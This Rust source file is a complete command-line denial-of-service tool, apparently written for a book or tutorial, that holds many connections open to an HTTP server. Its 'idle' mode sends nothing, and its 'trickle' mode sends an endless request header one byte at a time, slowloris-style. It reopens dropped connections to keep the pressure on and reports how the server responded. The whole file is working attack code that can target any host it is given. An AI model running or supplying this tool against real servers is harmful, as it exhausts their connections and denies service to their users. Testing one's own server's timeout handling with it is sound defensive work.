use std::{
    env,
    io::{self, Read, Write},
    net::{SocketAddr, TcpStream, ToSocketAddrs},
    ops::RangeInclusive,
    process, thread,
    time::{Duration, Instant},
};

const USAGE: &str = "usage: attack idle|trickle [--connections N] [--duration SECONDS] \
                     [--interval MS] http://HOST[:PORT][/PATH]";

// ANCHOR: main
fn main() {
    let options = Options::parse(env::args().skip(1)).unwrap_or_else(|message| {
        eprintln!("error: {message}");
        eprintln!("{USAGE}");
        process::exit(2);
    });
    let target = &options.target;
    println!(
        "{} on {} connections to {} for {} s",
        options.mode.name(),
        options.connections,
        target.host,
        options.duration.as_secs()
    );

    // Every connection first, so that the server has all of them at once.
    let mut streams = Vec::new();
    for _ in 0..options.connections {
        match TcpStream::connect(target.addr) {
            Ok(stream) => streams.push((stream, Instant::now())),
            Err(err) => {
                eprintln!("error: cannot connect to {}: {err}", target.addr);
                process::exit(1);
            }
        }
    }
    println!("{} connections open", streams.len());

    let deadline = Instant::now() + options.duration;
    let mut clients = Vec::new();
    for (stream, opened) in streams {
        let (addr, mode, interval, head) =
            (target.addr, options.mode, options.interval, target.head());
        clients.push(thread::spawn(move || {
            keep_attacking(stream, opened, addr, deadline, mode, interval, &head)
        }));
    }
    let mut ends = Vec::new();
    for client in clients {
        ends.extend(client.join().expect("a client thread panicked"));
    }
    report(&ends);
}
// ANCHOR_END: main

// ANCHOR: hold
/// What the attack does on each connection.
#[derive(Clone, Copy)]
enum Mode {
    /// Sends nothing at all.
    Idle,
    /// Sends the start of a request whose head never ends, one byte per
    /// interval after that.
    Trickle,
}

impl Mode {
    fn name(self) -> &'static str {
        match self {
            Mode::Idle => "idle",
            Mode::Trickle => "trickle",
        }
    }
}

/// How a connection of the attack ended.
enum End {
    /// It was still open when the attack was over.
    Held,
    /// The server closed it, `after` it was opened, having sent `answer`.
    Closed { after: Duration, answer: Vec<u8> },
    /// The server reset it, or it (or connecting again) failed in another
    /// way, named by `kind`.
    Failed {
        after: Duration,
        kind: io::ErrorKind,
    },
}

/// One client of the attack: it holds its connection until `deadline`,
/// and each time the server ends it, opens another, as an attacker would.
fn keep_attacking(
    mut stream: TcpStream,
    mut opened: Instant,
    addr: SocketAddr,
    deadline: Instant,
    mode: Mode,
    interval: Duration,
    head: &str,
) -> Vec<End> {
    let mut ends = Vec::new();
    loop {
        let end = hold(stream, opened, deadline, mode, interval, head);
        let held = matches!(end, End::Held);
        ends.push(end);
        if held || Instant::now() >= deadline {
            return ends;
        }
        match TcpStream::connect(addr) {
            Ok(next) => (stream, opened) = (next, Instant::now()),
            // The server is gone, or refuses: this client stops.
            Err(err) => {
                ends.push(End::Failed {
                    after: Duration::ZERO,
                    kind: err.kind(),
                });
                return ends;
            }
        }
    }
}

/// Holds one connection until `deadline`, or until the server ends it.
/// Waiting for the server's bytes is what paces the trickle: each wait
/// lasts one interval, and a byte goes out after each.
fn hold(
    mut stream: TcpStream,
    opened: Instant,
    deadline: Instant,
    mode: Mode,
    interval: Duration,
    head: &str,
) -> End {
    let failed = |err: io::Error| End::Failed {
        after: opened.elapsed(),
        kind: err.kind(),
    };
    if let Mode::Trickle = mode
        && let Err(err) = stream.write_all(head.as_bytes())
    {
        return failed(err);
    }
    let mut answer = Vec::new();
    let mut buffer = [0; 1024];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return End::Held;
        }
        // A read timeout of zero is an error: `left` is not zero here.
        if let Err(err) = stream.set_read_timeout(Some(left.min(interval))) {
            return failed(err);
        }
        match stream.read(&mut buffer) {
            Ok(0) => {
                return End::Closed {
                    after: opened.elapsed(),
                    answer,
                };
            }
            Ok(read) => answer.extend_from_slice(&buffer[..read]),
            // Nothing from the server for a whole interval: one more byte.
            Err(err)
                if matches!(
                    err.kind(),
                    io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                ) =>
            {
                if let Mode::Trickle = mode
                    && let Err(err) = stream.write_all(b"x")
                {
                    return failed(err);
                }
            }
            Err(err) => return failed(err),
        }
    }
}
// ANCHOR_END: hold

// ANCHOR: report
/// Prints how the connections ended, and when.
fn report(ends: &[End]) {
    let mut held = 0;
    let mut closed = 0;
    let mut reset = 0;
    let mut other = 0;
    let mut answers: Vec<(String, u64)> = Vec::new();
    let mut ended_after: Vec<Duration> = Vec::new();
    for end in ends {
        match end {
            End::Held => held += 1,
            End::Closed { after, answer } => {
                closed += 1;
                ended_after.push(*after);
                if answer.is_empty() {
                    continue;
                }
                // The status line, without its version: `408 Request Timeout`.
                let text = String::from_utf8_lossy(answer);
                let status = text.lines().next().unwrap_or("");
                let status = match status.split_once(' ') {
                    Some((_, status)) => status.to_string(),
                    None => "no status line".to_string(),
                };
                match answers.iter_mut().find(|(seen, _)| *seen == status) {
                    Some((_, count)) => *count += 1,
                    None => answers.push((status, 1)),
                }
            }
            End::Failed { after, kind } => {
                ended_after.push(*after);
                match kind {
                    io::ErrorKind::ConnectionReset
                    | io::ErrorKind::ConnectionAborted
                    | io::ErrorKind::BrokenPipe => reset += 1,
                    _ => other += 1,
                }
            }
        }
    }
    println!(
        "connections: {} in all, {held} held to the end, {closed} closed by the server, \
         {reset} reset, {other} failed otherwise",
        ends.len()
    );
    if answers.is_empty() {
        println!("answers: none");
    } else {
        let answers: Vec<String> = answers
            .iter()
            .map(|(status, count)| format!("{status} {count}"))
            .collect();
        println!("answers: {}", answers.join(", "));
    }
    if let (Some(first), Some(last)) = (ended_after.iter().min(), ended_after.iter().max()) {
        println!(
            "ended after (ms): first {}, last {}",
            first.as_millis(),
            last.as_millis()
        );
    }
}
// ANCHOR_END: report

// ANCHOR: options
/// What the command line asks for.
struct Options {
    mode: Mode,
    /// How many connections the attack opens, all at once.
    connections: u64,
    /// How long it holds them.
    duration: Duration,
    /// How long a trickling connection waits between two bytes.
    interval: Duration,
    target: Target,
}

impl Options {
    /// Reads `idle|trickle [--connections N] [--duration SECONDS]
    /// [--interval MS] URL`: the mode first, then the rest in any order.
    fn parse(mut args: impl Iterator<Item = String>) -> Result<Options, String> {
        let mode = match args.next().as_deref() {
            Some("idle") => Mode::Idle,
            Some("trickle") => Mode::Trickle,
            Some(other) => {
                return Err(format!(
                    "the first argument is the attack, `idle` or `trickle`, not `{other}`"
                ));
            }
            None => return Err("name the attack: `idle` or `trickle`".to_string()),
        };
        let mut connections = 4;
        let mut duration = Duration::from_secs(10);
        let mut interval = Duration::from_secs(1);
        let mut url = None;
        while let Some(arg) = args.next() {
            match arg.as_str() {
                "--connections" => connections = number(&arg, args.next(), 1..=1000)?,
                "--duration" => {
                    duration = Duration::from_secs(number(&arg, args.next(), 1..=3600)?);
                }
                "--interval" => {
                    interval = Duration::from_millis(number(&arg, args.next(), 1..=60_000)?);
                }
                _ if arg.starts_with('-') => return Err(format!("unknown option `{arg}`")),
                _ if url.is_some() => return Err(format!("one URL only: `{arg}` is a second")),
                _ => url = Some(arg),
            }
        }
        let url = url.ok_or("give the URL to attack")?;
        Ok(Options {
            mode,
            connections,
            duration,
            interval,
            target: Target::parse(&url)?,
        })
    }
}

/// The value that follows `option`, as a whole number within `range`.
fn number(option: &str, value: Option<String>, range: RangeInclusive<u64>) -> Result<u64, String> {
    let value = value.ok_or_else(|| format!("`{option}` needs a value"))?;
    match value.parse() {
        Ok(number) if range.contains(&number) => Ok(number),
        _ => Err(format!(
            "`{option}` takes a whole number from {} to {}, not `{value}`",
            range.start(),
            range.end()
        )),
    }
}
// ANCHOR_END: options

// ANCHOR: target
/// Where the attack goes.
struct Target {
    addr: SocketAddr,
    /// The URL's `HOST[:PORT]`, for the `Host` header.
    host: String,
    path: String,
}

impl Target {
    /// Reads `http://HOST[:PORT][/PATH]`; the port is 80 and the path `/`
    /// unless the URL says otherwise.
    fn parse(url: &str) -> Result<Target, String> {
        let rest = url
            .strip_prefix("http://")
            .ok_or_else(|| format!("`{url}` is not an http:// URL"))?;
        let (host, path) = match rest.find('/') {
            Some(slash) => rest.split_at(slash),
            None => (rest, "/"),
        };
        if host.is_empty() {
            return Err(format!("`{url}` names no host"));
        }
        let with_port = if host.contains(':') {
            host.to_string()
        } else {
            format!("{host}:80")
        };
        let addr = with_port
            .to_socket_addrs()
            .map_err(|err| format!("cannot find `{host}`: {err}"))?
            .next()
            .ok_or_else(|| format!("`{host}` has no address"))?;
        Ok(Target {
            addr,
            host: host.to_string(),
            path: path.to_string(),
        })
    }

    /// What a trickling connection sends first: a request line, and the
    /// start of a header line that never ends.
    fn head(&self) -> String {
        format!(
            "GET {} HTTP/1.1\r\nHost: {}\r\nX-Trickle: ",
            self.path, self.host
        )
    }
}
// ANCHOR_END: target
